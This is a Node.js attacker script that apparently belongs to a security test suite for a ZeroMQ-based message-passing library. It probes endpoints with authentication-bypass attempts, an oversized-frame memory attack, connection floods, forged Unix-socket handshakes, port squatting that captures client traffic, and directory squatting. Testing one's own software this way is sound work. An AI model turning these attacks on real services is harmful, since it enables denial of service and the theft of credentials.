// An attacker, run as a separate process (as another user where the machine allows it). Each
// command attacks one endpoint and prints one line `result {json}`; "admitted" counts the
// connections that got past authentication as the attacker sees it (a completed ZeroMQ handshake,
// or a Unix socket still open after the attacker's proof).
//
//   node attacker.mjs strangers <tcp endpoint> <rounds> [secret]
//   node attacker.mjs claim <tcp endpoint> <claim bytes> <max bytes to send>
//   node attacker.mjs flood <tcp endpoint> <connections> <hold ms>
//   node attacker.mjs unix <socket path> <rounds> [secret]
//   node attacker.mjs idle <socket path or tcp endpoint> <connections> <max ms>
//   node attacker.mjs squat-port <port>           (listens; prints what connecting ranks sent)
//   node attacker.mjs squat-dir <dir>             (creates dir 0777 before the victim)
import { randomBytes } from "node:crypto";
import { chmodSync, mkdirSync, writeFileSync } from "node:fs";
import { connect, createServer } from "node:net";
import { Push, curveKeyPair } from "zeromq";

const [cmd, target, a, b] = process.argv.slice(2);
const print = (o) => console.log(`result ${JSON.stringify(o)}`);
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
const hostPort = (ep) => {
  const m = /^tcp:\/\/([^:]+):(\d+)$/.exec(ep);
  return { host: m[1], port: Number(m[2]) };
};

/** Raw bytes on a TCP port; resolves when the server hangs up or after 300 ms. */
function raw(ep, bytes) {
  const { host, port } = hostPort(ep);
  return new Promise((resolve) => {
    const s = connect(port, host, () => s.write(bytes));
    const t = setTimeout(() => s.destroy(), 300);
    s.on("close", () => {
      clearTimeout(t);
      resolve();
    });
    s.on("error", () => {});
  });
}

/** A ZeroMQ PUSH with `opts`; true if its handshake completed (it was admitted). */
async function zmq(ep, opts, frames = [["hello"]]) {
  const p = new Push({ linger: 0, reconnectInterval: 10000, ...opts });
  let admitted = false;
  p.events.on("handshake", () => (admitted = true));
  p.connect(ep);
  // One send at a time (zeromq.js refuses a second while one is in flight), without waiting on them.
  void (async () => {
    for (const f of frames) await p.send(f);
  })().catch(() => {});
  await sleep(400);
  p.close();
  return admitted;
}

/** Runs `jobs` (functions returning promises) `width` at a time. */
async function batches(jobs, width) {
  const out = [];
  for (let i = 0; i < jobs.length; i += width) out.push(...(await Promise.all(jobs.slice(i, i + width).map((j) => j()))));
  return out;
}

async function strangers(ep, rounds, secret) {
  const other = curveKeyPair();
  const mine = curveKeyPair();
  const tries = [
    () => raw(ep, randomBytes(4096)).then(() => false), // garbage
    () => raw(ep, Buffer.concat([Buffer.from([0xff, 0, 0, 0, 0, 0, 0, 0, 1, 0x7f, 3, 0]), Buffer.from("NULL".padEnd(20, "\0")), Buffer.alloc(32)])).then(() => false), // a bare ZMTP greeting, NULL
    () => zmq(ep, { plainUsername: "zmpi", plainPassword: "wrong-secret-wrong-secret" }, [["hello"], [randomBytes(64)]]), // PLAIN, wrong password
    () => zmq(ep, {}, [["hello"], [randomBytes(64)]]), // NULL mechanism
    () => zmq(ep, { curveServerKey: other.publicKey, curvePublicKey: mine.publicKey, curveSecretKey: mine.secretKey }, [["hello"]]), // CURVE, a guessed server key
  ];
  if (secret) tries.push(() => zmq(ep, { plainUsername: "zmpi", plainPassword: secret }, [["hello"]])); // the old protocol, with the real secret
  const jobs = Array.from({ length: rounds }, () => tries).flat();
  const admitted = (await batches(jobs, 24)).filter(Boolean).length;
  print({ cmd: "strangers", target: ep, attempts: jobs.length, admitted });
}

/**
 * A ZMTP 3 greeting that takes the server's mechanism (whatever it is, so the same attack runs
 * against any version), then one command frame header claiming `claim` bytes, then zeros until the
 * server hangs up or `maxSend` bytes are out.
 */
async function claim(ep, claimBytes, maxSend) {
  const { host, port } = hostPort(ep);
  const r = await new Promise((resolve) => {
    let sent = 0;
    let mech = "";
    let got = Buffer.alloc(0);
    const s = connect(port, host);
    const zeros = Buffer.alloc(1 << 20);
    const pump = () => {
      while (sent < maxSend && !s.destroyed) {
        sent += zeros.length;
        if (!s.write(zeros)) return void s.once("drain", pump);
      }
      s.end();
    };
    // Signature and version first: libzmq sends the rest of its greeting only after it sees them.
    s.on("connect", () => s.write(Buffer.from([0xff, 0, 0, 0, 0, 0, 0, 0, 1, 0x7f, 3, 0])));
    s.on("data", (d) => {
      if (mech) return;
      got = Buffer.concat([got, d]);
      if (got.length < 64) return;
      mech = got.subarray(12, 32).toString().replace(/\0+$/, "");
      s.write(Buffer.concat([Buffer.from(mech.padEnd(20, "\0")), Buffer.from([0]), Buffer.alloc(31)]));
      const head = Buffer.alloc(9);
      head[0] = 0x06; // command frame, long size
      head.writeBigUInt64BE(BigInt(claimBytes), 1);
      s.write(head);
      pump();
    });
    s.on("error", () => {});
    s.on("close", () => resolve({ sent, mech }));
    setTimeout(() => s.destroy(), 60_000);
  });
  print({ cmd: "claim", target: ep, claim: claimBytes, mechanism: r.mech, sentBytes: r.sent });
}

async function flood(ep, n, holdMs) {
  const { host, port } = hostPort(ep);
  const socks = [];
  let refused = 0;
  let closedEarly = 0;
  for (let i = 0; i < n; i++) {
    const s = connect(port, host);
    s.on("error", () => refused++);
    socks.push(s);
  }
  const t0 = Date.now();
  await sleep(holdMs);
  for (const s of socks) if (s.destroyed) closedEarly++;
  for (const s of socks) s.destroy();
  print({ cmd: "flood", target: ep, connections: n, heldMs: Date.now() - t0, closedByServer: closedEarly - refused, connectErrors: refused });
}

/**
 * One Unix-socket connection: writes `chunks` and waits for the server to hang up. Still open after
 * `waitMs` (longer than the server's 10 s handshake deadline) means it was admitted.
 */
function unixTry(path, chunks, waitMs = 13_000) {
  return new Promise((resolve) => {
    let err = "";
    const s = connect({ path }, () => {
      for (const ch of chunks) s.write(ch);
    });
    s.on("data", () => {}); // read, so the server's hang-up is seen
    s.on("error", (e) => (err = e.code ?? e.message));
    const t = setTimeout(() => {
      s.destroy();
      resolve({ open: !err, err });
    }, waitMs);
    s.on("close", () => {
      clearTimeout(t);
      resolve({ open: false, err });
    });
  });
}

async function unix(path, rounds, secret) {
  const hello = (id) => Buffer.concat([Buffer.from("ZMPA"), Buffer.from([1, Buffer.byteLength(id)]), Buffer.from(id), randomBytes(32)]);
  const tries = [
    [randomBytes(4096)], // garbage
    [Buffer.concat([Buffer.from([0x5a, 0x4d, 0x50, 0x53, 1, 0, 0, 0, 0]), Buffer.from([secret ? secret.length : 4, 0]), Buffer.from(secret ?? "nope")])], // the old greeting, with the secret
    [hello("rank 0"), randomBytes(32)], // a handshake claiming rank 0, with a proof it cannot make
    [hello("rank 99999")], // a rank outside the world
  ];
  const jobs = Array.from({ length: rounds }, () => tries.map((chunks) => () => unixTry(path, chunks))).flat();
  const results = await batches(jobs, 16);
  const unreachable = results.find((r) => r.err)?.err ?? "";
  print({ cmd: "unix", target: path, attempts: jobs.length, admitted: results.filter((r) => r.open).length, unreachable });
}

/** `n` connections that never say anything: how long until the server closes each. */
async function idle(path, n, maxMs) {
  const t0 = Date.now();
  const closedAt = await Promise.all(
    Array.from(
      { length: n },
      () =>
        new Promise((resolve) => {
          const s = path.startsWith("tcp://") ? connect(hostPort(path).port, hostPort(path).host) : connect({ path });
          s.on("data", () => {});
          s.on("error", () => {});
          s.on("close", () => resolve(Date.now() - t0));
          setTimeout(() => {
            s.destroy();
            resolve(-1);
          }, maxMs);
        }),
    ),
  );
  print({ cmd: "idle", target: path, connections: n, closedMs: closedAt.sort((x, y) => x - y) });
}

/**
 * Squats a port: greets every client as a ZMTP 3 server of whatever mechanism the client asks for,
 * to draw out all the client will say, and records it. Prints it (hex) on SIGTERM.
 */
async function squatPort(port) {
  const received = [];
  let connections = 0;
  const srv = createServer((s) => {
    connections++;
    let got = Buffer.alloc(0);
    let answered = false;
    s.on("data", (d) => {
      received.push(d);
      got = Buffer.concat([got, d]);
      if (answered || got.length < 64) return;
      answered = true;
      const mech = got.subarray(12, 32);
      s.write(Buffer.concat([mech, Buffer.from([1]), Buffer.alloc(31)]));
    });
    s.on("error", () => {});
    s.write(Buffer.from([0xff, 0, 0, 0, 0, 0, 0, 0, 1, 0x7f, 3, 0]));
  });
  await new Promise((resolve) => srv.listen(port, "127.0.0.1", resolve));
  console.log("squatting");
  process.on("SIGTERM", () => {
    const all = Buffer.concat(received);
    writeFileSync(1, `result ${JSON.stringify({ cmd: "squat-port", port, connections, bytes: all.length, hex: all.toString("hex") })}\n`);
    process.exit(0);
  });
}

function squatDir(dir) {
  mkdirSync(dir, { recursive: false });
  chmodSync(dir, 0o777);
  print({ cmd: "squat-dir", dir });
}

if (cmd === "strangers") await strangers(target, Number(a), b);
else if (cmd === "claim") await claim(target, Number(a), Number(b));
else if (cmd === "flood") await flood(target, Number(a), Number(b));
else if (cmd === "unix") await unix(target, Number(a), b);
else if (cmd === "idle") await idle(target, Number(a), Number(b));
else if (cmd === "squat-port") await squatPort(Number(target));
else if (cmd === "squat-dir") squatDir(target);
else throw new Error(`unknown command ${cmd}`);
